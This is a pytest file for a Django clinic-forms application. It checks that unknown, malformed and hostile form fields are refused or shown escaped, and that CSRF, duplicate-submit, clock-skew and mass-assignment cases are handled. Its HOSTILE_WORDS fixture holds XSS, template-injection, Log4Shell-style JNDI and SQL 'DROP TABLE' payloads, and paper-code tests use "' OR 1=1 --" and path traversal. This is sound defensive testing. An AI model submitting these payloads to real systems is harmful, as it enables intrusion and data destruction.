# SPDX-License-Identifier: Apache-2.0
"""Hostile and malformed fields beside the measure: rows 54 to 62 and 91, for everything new."""

from __future__ import annotations

from dataclasses import replace
from typing import Any
from uuid import uuid4

import pytest
from django.test import Client as Browser
from django.utils import timezone
from django.utils.html import escape
from tests.clinic_world import HIGH, World, fields, opened, submission_id

from attunement.clinic.config.model import Capture
from attunement.clinic.models import (
    Answer,
    AnswerWish,
    Goal,
    OpenedForm,
    PaperForm,
    PrivateMessage,
    Response,
)
from attunement.clinic.services.goals import add_goal
from attunement.clinic.services.paper import print_forms
from attunement.clinic.services.paper_codes import new_paper_code
from attunement.clinic.services.sealing import words_of

# All in one, so that the way through the pages is walked once; and as many emoji as are taken.
HOSTILE_WORDS = [
    (
        "=HYPERLINK(1)<img src=x onerror=alert(1)>{{7*7}}{% load x %}"
        "${jndi:ldap://attunement.example/a}'; DROP TABLE clinic_goal; --"
        "</textarea><script>alert(1)</script>\u202eright to left\u202c"
    ),
    "🙂" * 4000,
]


@pytest.fixture
def both(world: World, settings: Any) -> World:
    settings.ATTUNEMENT = replace(
        settings.ATTUNEMENT, capture=Capture(before="phq-2", own_chart=True)
    )
    return world


def _at(world: World, moment: str) -> tuple[Browser, dict[str, str], str]:
    browser = opened(world.invite(world.start())[0])
    mark = next(name for name in browser.cookies if name.startswith("c_")).removeprefix("c_")
    page = browser.get(f"/c/form?f={mark}&m={moment}")
    sent = fields(HIGH) if moment == "after" else {"item-1": "1", "item-2": "2"}
    return browser, sent | {"moment": moment, "submission_id": submission_id(page)}, mark


def _stored() -> tuple[int, ...]:
    return tuple(
        each.objects.count() for each in (Response, Answer, AnswerWish, Goal, PrivateMessage)
    )


@pytest.mark.parametrize(
    "more",
    [
        {"wish-1": "tell_everybody"},
        {"wish": "1"},
        {"wish-1": ["raise", "dont_raise"]},
        {"moment": "between"},
        {"moment": ["before", "after"]},
        {"moment": "__proto__"},
        {"extra-new-goal": ["a", "b"]},
        {"extra-new-goal": "x" * 10_001},
        {"extra-new-goal": "a\x00b"},
    ],
)
def test_row_54_a_field_that_cannot_be_is_refused_and_nothing_changes(
    both: World, more: dict[str, Any]
) -> None:
    browser, sent, _ = _at(both, "before")
    answer = browser.post("/c/form", sent | more)
    assert answer.status_code == 422
    assert _stored() == (0, 0, 0, 0, 0)


@pytest.mark.parametrize("rating", ["11", "-1", "5.0", "5 ", "true", "٥", "NaN", "1e0", "[5]"])
def test_row_55_a_goal_rating_that_is_none_is_refused(both: World, rating: str) -> None:
    add_goal(both.login, both.dyad.pk, "Synthetic goal", now=timezone.now())
    goal = Goal.objects.get().pk
    browser, sent, _ = _at(both, "before")
    answer = browser.post("/c/form", sent | {f"extra-goal-{goal}": rating})
    assert answer.status_code == 422
    assert not Response.objects.exists()


def test_row_54_unknown_fields_are_ignored_and_never_stored(both: World) -> None:
    browser, sent, _ = _at(both, "after")
    extra = {
        "__proto__": "x",
        "constructor": "x",
        "visibility": "sealed",
        "provenance": "paper",
        "mode": "import",
        "entered_by": "x",
        "received_at": "1970-01-01",
        "score": "6",
        "extra-made-up": "Synthetic canary",
        "wish-made-up": "raise",
        "layout": "sideways",
    }
    assert browser.post("/c/form", sent | extra).status_code == 303
    row = Response.objects.get()
    assert (row.provenance, row.mode, row.entered_by, row.visibility) == (
        "self",
        "link",
        "",
        "open",
    )
    assert not AnswerWish.objects.exists()
    held = [str(vars(each)) for each in (*Answer.objects.all(), *OpenedForm.objects.all(), row)]
    assert not any("canary" in one or "made-up" in one for one in held)


@pytest.mark.parametrize("words", HOSTILE_WORDS)
def test_row_57_hostile_words_are_inert_wherever_they_are_shown(both: World, words: str) -> None:
    browser, sent, _ = _at(both, "before")
    answer = browser.post("/c/form", sent | {"extra-new-goal": words})
    assert answer.status_code == 303
    goal = Goal.objects.get()
    assert words_of(goal, "words") == " ".join(words.split())[:300]
    staff = both.browser()
    for path in (f"/clients/{both.dyad.pk}/asking", f"/clients/{both.dyad.pk}/before"):
        page = staff.get(path).content.decode()
        assert "<img src=x" not in page
        assert "<script>alert" not in page
        assert "{{7*7}}" not in words or "{{7*7}}" in page or "before" in path
    browser, sent, _ = _at(both, "after")
    asked = next(one["id"] for one in OpenedForm.objects.order_by("opened_at").last().extras)
    sent[f"extra-{asked}"] = words
    assert browser.post("/c/form", sent).status_code == 303
    session = Response.objects.get(moment="after").session_id
    both.therapist_answers(session)
    page = staff.get(f"/sessions/{session}/").content.decode()
    assert "<img src=x" not in page
    assert "<script>alert" not in page
    assert escape(words) in page


@pytest.mark.parametrize("moment", ["before", "after"])
def test_row_59_two_taps_two_tabs_and_the_back_button_store_one_form(
    both: World, moment: str
) -> None:
    browser, sent, mark = _at(both, moment)
    first = browser.post("/c/form", sent)
    second = browser.post("/c/form", sent)
    assert (first.status_code, second.status_code) == (303, 303)
    other = browser.get(f"/c/form?f={mark}&m={moment}")
    assert 'name="item-' not in other.content.decode() or moment == "before"
    changed = browser.post("/c/form", sent | {"item-1": "0"})
    assert changed.status_code == 409
    assert Response.objects.count() == 1
    assert Answer.objects.get(item="1").value == float(sent["item-1"])


@pytest.mark.parametrize("clock", ["1970-01-01T00:00:00Z", "2099-01-01T00:00:00Z", "soon"])
def test_row_61_a_clock_that_is_off_is_flagged_and_ours_rules(both: World, clock: str) -> None:
    browser, sent, _ = _at(both, "before")
    assert browser.post("/c/form", sent | {"client_clock": clock}).status_code == 303
    row = Response.objects.get()
    assert row.clock_suspect
    assert abs((timezone.now() - row.received_at).total_seconds()) < 60


@pytest.mark.parametrize(
    ("path", "sent"),
    [
        ("/c/say", {"kind": "message", "words": "Synthetic"}),
        ("/c/chart", {"answer": "1984"}),
        ("/c/chart/number", {"pin": "4711"}),
        ("/c/stop", {"token": "x"}),
        ("/paper/", {"session": "x"}),
        ("/paper/enter", {"code": "x"}),
        ("/team/messages/x/take", {}),
        ("/clients/x/asking", {"act": "goal"}),
    ],
)
def test_row_58_a_form_from_elsewhere_is_refused(
    both: World, path: str, sent: dict[str, str]
) -> None:
    strict = Browser(enforce_csrf_checks=True)
    strict.force_login(both.login)
    assert strict.post(path, sent).status_code == 403
    assert _stored() == (0, 0, 0, 0, 0)


@pytest.mark.parametrize(
    "code", ["AAAA-AAAA", "' OR 1=1 --", "٢٢٢٢٢٢٢٢", "\x00", "Z" * 5000, "../.."]
)
def test_a_paper_code_that_is_none_says_so(both: World, code: str) -> None:
    staff = both.browser()
    for answer in (
        staff.get("/paper/enter", {"code": code}),
        staff.post("/paper/enter", {"code": code, "submission_id": str(uuid4()), "item-1": "3"}),
    ):
        assert answer.status_code == 404
        assert "There is no such sheet: a letter or digit" in answer.content.decode()
    assert not Response.objects.exists()


def test_a_right_paper_code_of_nobody_is_not_called_a_slip(both: World) -> None:
    page = both.browser().get("/paper/enter", {"code": new_paper_code()})
    assert page.status_code == 404
    assert "no such sheet for you, or your own form is not in yet" in page.content.decode()


def test_row_74_mass_assignment_on_paper_is_ignored(both: World) -> None:
    session_id = both.start()
    both.therapist_answers(session_id)
    (made,) = print_forms(both.login, [session_id], now=timezone.now())
    sent = {
        "code": made.code,
        "submission_id": str(uuid4()),
        "item-1": "3",
        "entered_by": "somebody",
        "provenance": "self",
        "visibility": "sealed",
        "who_sees": "nobody",
    }
    assert both.browser().post("/paper/enter", sent).status_code == 200
    row = Response.objects.get(perspective="client")
    assert (row.provenance, row.entered_by) == ("paper", both.login.pk)
    assert row.who_sees == PaperForm.objects.get().who_sees
